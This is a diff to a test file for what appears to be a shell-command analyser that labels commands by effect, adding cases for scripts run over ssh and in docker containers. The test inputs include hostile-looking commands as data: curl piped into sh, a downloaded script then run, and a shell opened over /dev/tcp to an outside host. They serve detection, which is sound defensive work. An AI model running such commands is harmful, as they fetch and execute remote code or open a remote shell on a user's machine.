@@ -222,6 +222,10 @@ describe("carriers", () => {
     expect(effects('sh -c "$(curl -s https://x.io/i)"')).toContain("execute source=network language=shell");
     expect(effects("curl -o i.sh https://x.io/i; bash i.sh")).toContain("execute /repo/app/i.sh source=network language=shell");
     expect(effects("bash setup.sh")).toEqual(["execute /repo/app/setup.sh source=file language=shell"]);
+    expect(effects("ssh host bash setup.sh")).toContain("execute ‹any›/setup.sh source=file language=shell remote");
+    expect(effects("docker run img bash setup.sh")).toContain("execute ‹any›/setup.sh source=file language=shell container");
+    expect(effects("ssh host 'source ~/.profile'")).toContain("execute ‹any›/.profile source=file language=shell remote");
+    expect(effects('docker run img bash "$X"').join(" ")).not.toContain("source=file");
     expect(effects("npm install left-pad")).toContain("execute source=registry name=left-pad");
     expect(effects('"$TOOL" x')).toContain("execute source=‹any›");
     expect(effects("sh <> /dev/tcp/h.io/99")).toContain("execute source=network language=shell");
